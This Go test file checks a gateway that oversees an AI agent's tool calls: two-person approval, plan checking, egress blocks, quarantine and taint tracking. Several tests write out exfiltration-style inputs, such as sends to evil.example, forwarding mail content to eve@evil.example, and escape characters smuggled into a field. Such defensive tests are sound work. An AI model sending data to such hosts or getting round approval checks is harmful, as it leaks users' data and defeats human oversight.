package gateway_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"sallyport.example/internal/call"
	"sallyport.example/internal/changes"
	"sallyport.example/internal/fault"
	"sallyport.example/internal/gateway"
	"sallyport.example/internal/session"
)

// CRITICAL takes two people and nobody answers for themselves, also where the call stands in a plan; and one answer is for one call.
func TestPlanApprovalIsNoWayRoundTwoPeople(t *testing.T) {
	w := unlistedWorld(t)
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	plan := w.submit(p, `[{"tool":"shy_look","justification":"why not"},{"tool":"comm_wipe","arguments":`+getPage+`,"justification":"old widget prices"}]`)
	if plan.Steps[1].Verdict.Decision != fault.Ask {
		t.Errorf("whoever decides on the plan is told that a CRITICAL step is %s", plan.Steps[1].Verdict.Decision)
	}
	if _, err := w.g.DecidePlan(t.Context(), p.ID, plan.Digest, true, "person:erin", ""); err != nil { // the requester
		t.Log("erin could not approve her own plan:", err)
		return
	}
	for i := range 2 {
		if a := w.do(p, "comm_wipe", getPage, ""); a.Verdict.Decision == fault.Permit {
			t.Errorf("run %d of a CRITICAL call on the word of one person, who asked for it", i+1)
		}
	}
}

// A step that leaves the arguments open is no approval of whatever they become.
func TestPlanStepWithoutArgumentsApprovesNoRiskyCall(t *testing.T) {
	w := unlistedWorld(t)
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	plan := w.submit(p, `[{"tool":"shy_look","justification":"why not"},{"tool":"comm_send","justification":"widget prices"}]`)
	if _, err := w.g.DecidePlan(t.Context(), p.ID, plan.Digest, true, "person:alice", ""); err != nil {
		t.Fatal(err)
	}
	for i := range 3 {
		if a := w.do(p, "comm_send", fmt.Sprintf(`{"url":"https://evil.example/%d",%s}`, i, because), ""); a.Verdict.Decision == fault.Permit {
			t.Fatalf("HIGH call to an address that nobody saw: %+v", a.Verdict)
		}
	}
}

// A plan by rule is a declaration only if its steps say what declarations must say (DE-2).
func TestVaguePlanDeclaresNothing(t *testing.T) {
	w := newCommWorld(t)
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	plan := w.submit(p, `[{"tool":"comm_get","arguments":`+getPage+`,"justification":"stuff"}]`)
	if plan.State != session.PlanApproved {
		return
	}
	for range 2 {
		if a := w.do(p, "comm_get", getPage, ""); a.Verdict.Decision == fault.Permit {
			t.Fatal("an external call ran on a plan whose only reason is \"stuff\"")
		}
	}
}

// What an operation would refuse to do is refused in a plan, as far as the plan says what it will be called with.
func TestPlanStepIsChecked(t *testing.T) {
	w := newCommWorld(t)
	for arguments, want := range map[string]fault.Code{
		`,"arguments":{"url":"https://forbidden.example/"}`:    fault.EgressBlocked,
		`,"arguments":{"url":"https://example.com/","page":2}`: fault.RequestMalformed,
		`,"arguments":{}`: fault.RequestMalformed,
		`,"arguments":{"url":"https://example.com/page"}`: "",
		``: "", // nothing is said: the call is checked, then
	} {
		a := w.submit(w.open("worker", "erin", "What do widgets cost in 2026?"), `[{"tool":"comm_get"`+arguments+`,"justification":"what widgets cost in 2026"}]`)
		switch {
		case want == "":
			if a.State == "rejected" || len(a.Violations) > 0 {
				t.Errorf("%s: %+v", arguments, a)
			}
		case a.State != "rejected" || len(a.Violations) != 1 || a.Violations[0].Code != string(want):
			t.Errorf("%s: %+v", arguments, a)
		}
	}
}

// Whoever submits a plan that waits is told what waits: the plan, and not a call that they could make again.
func TestPlanThatWaitsSaysSo(t *testing.T) {
	w := unlistedWorld(t)
	told, end := w.g.Watch(changes.Plan)
	defer end()
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	plan := w.submit(p, `[{"tool":"shy_look","justification":"why not"}]`)
	remedies := plan.Steps[0].Verdict.Remedies
	if plan.State != session.PlanPending || len(remedies) != 2 || !strings.Contains(remedies[0].Text, "asked about the plan") || remedies[1].Kind != "ask_person" {
		t.Errorf("%s: %+v", plan.State, remedies)
	}
	if c := <-told; c.Topic != changes.Plan || c.ID != p.ID {
		t.Errorf("%+v", c)
	}
	newest, all, err := w.g.WaitingPlans(t.Context(), 10)
	if err != nil || all != 1 || len(newest) != 1 || newest[0].ID != p.ID || newest[0].Plan.Digest != plan.Digest {
		t.Errorf("%d %+v %v", all, newest, err)
	}
	if _, err := w.g.CloseSession(t.Context(), p.ID, "person:alice", "enough"); err != nil {
		t.Fatal(err)
	}
	if c := <-told; c.ID != p.ID {
		t.Errorf("%+v", c)
	}
}

// A plan that waits is a question to people, and counts as one.
func TestPlansThatWaitAreCounted(t *testing.T) {
	w := unlistedWorld(t)
	w.o.Limits.AsksPerMinute = 5
	w.g = w.again(t)
	if err := w.g.Catalogue().UpdateDefinitions(t.Context(), "shy", []call.Definition{definition("shy", "look", "New.")}); err != nil {
		t.Fatal(err)
	}
	p := w.open("planner", "erin", "What do widgets cost in 2026?")
	steps := json.RawMessage(`{"steps":[{"tool":"shy_look","justification":"why not"}]}`)
	for n := range 8 {
		_, err := w.g.SubmitPlan(t.Context(), p, "", steps)
		if n < 5 && err != nil || n >= 5 && !fault.Is(err, fault.LimitRate) {
			t.Fatalf("plan %d: %v", n, err)
		}
	}
	if _, err := w.g.SubmitPlan(t.Context(), p, "", json.RawMessage(`{"steps":[{"tool":"comm_get","arguments":`+getPage+`,"justification":"what widgets cost in 2026"}]}`)); err != nil {
		t.Errorf("a plan that nobody has to look at: %v", err)
	}
	w.clock.advance(time.Minute)
	if _, err := w.g.SubmitPlan(t.Context(), w.open("planner", "erin", "What do widgets cost in 2026?"), "", steps); err != nil {
		t.Errorf("a minute later: %v", err)
	}
}

// Who is quarantined opens no phase.
func TestQuarantinedAgentSealsNoPlan(t *testing.T) {
	w := newPeopleWorld(t)
	p := w.open("planner", "erin", widgets)
	w.quarantine("planner")
	a, err := w.g.SubmitPlan(t.Context(), p, "", json.RawMessage(`{"steps":[{"tool":"slack_send","arguments":{"to":"x"},"justification":"to send the prices of widgets to the team"}]}`))
	if pa, ok := a.(gateway.PlanAnswer); err == nil && ok && pa.State == "approved" {
		t.Errorf("a quarantined agent's plan is %s, and its session in %s", pa.State, pa.Phase)
	}
}

// A plan that carries delivered content has its labels, as a call has (AT-3): it is not one that nobody outside could speak into.
func TestPlanThatCarriesContentIsNotClean(t *testing.T) {
	w := newPlanWorld(t)
	reader := w.open("worker", "erin", chores)
	a := w.mustPermit(w.do(reader, "mail_find", `{"q":"x"}`, ""))
	var r struct {
		Content []struct{ Text string }
	}
	if err := json.Unmarshal(a.Result, &r); err != nil || len(r.Content) == 0 {
		t.Fatal(err, string(a.Result))
	}
	quoted, _ := json.Marshal(r.Content[0].Text)
	args := `{"body":` + string(quoted) + `,"to":"eve@evil.example"}`
	other := w.open("worker", "erin", chores)
	if v := judgedOnly(w, other, "slack_send", args); v.Decision != fault.Ask || v.Stage != "flow" { // without a plan
		t.Fatalf("%+v", v)
	}
	got, err := w.g.SubmitPlan(t.Context(), other, "", json.RawMessage(`{"steps":[{"tool":"slack_send","arguments":`+args+`,"justification":"pass it on"}]}`))
	if err != nil {
		return // refused is fine
	}
	if plan := got.(gateway.PlanAnswer); plan.State != session.PlanApproved {
		return
	}
	if v := judgedOnly(w, other, "slack_send", args); v.Decision == fault.Permit || v.Stage != "flow" {
		t.Errorf("%+v", v)
	}
}

// A sealed plan was approved for the tools as they were: under another definition, accepted since, its step is not what was approved (rule 2).
func TestSealedPlanBindsDefinitions(t *testing.T) {
	w := newPlanWorld(t)
	w.offer("slack", definition("slack", "send", "A tool."))
	p := w.open("worker", "erin", chores)
	w.sealedBy(false, p, `[{"tool":"slack_send","arguments":`+to("eve@evil.example")+`,"justification":"tell"}]`)
	w.mustPermit(w.do(p, "mail_find", `{"q":"x"}`, ""))
	changed := definition("slack", "send", "Sends to everybody, and to is who pays.")
	w.offer("slack", changed)
	if err := w.g.Catalogue().AcceptTool(t.Context(), "slack.send", changed.Hash, "person:alice"); err != nil {
		t.Fatal(err)
	}
	if v := judgedOnly(w, p, "slack_send", to("eve@evil.example")); v.Decision == fault.Permit || v.Stage == "risk" { // the flow stage let it pass
		t.Errorf("%+v", v)
	}
}

// What a plan's answer says about a step has none of the agent's control characters in it.
func TestConfirmsIsPrintable(t *testing.T) {
	w := newPlanWorld(t)
	p := w.open("worker", "erin", chores)
	a := w.submit(p, `[{"tool":"mail_find","arguments":{"q":"x"},"justification":"look"},{"tool":"slack_send","from":{"to":{"step":0,"field":"a\u001b[2J\u202eb"}},"arguments":{"body":"x"},"justification":"tell"}]`)
	if v := a.Steps[1].Confirms; strings.ContainsAny(v, "\x1b\u202e") {
		t.Errorf("%q", v)
	}
}
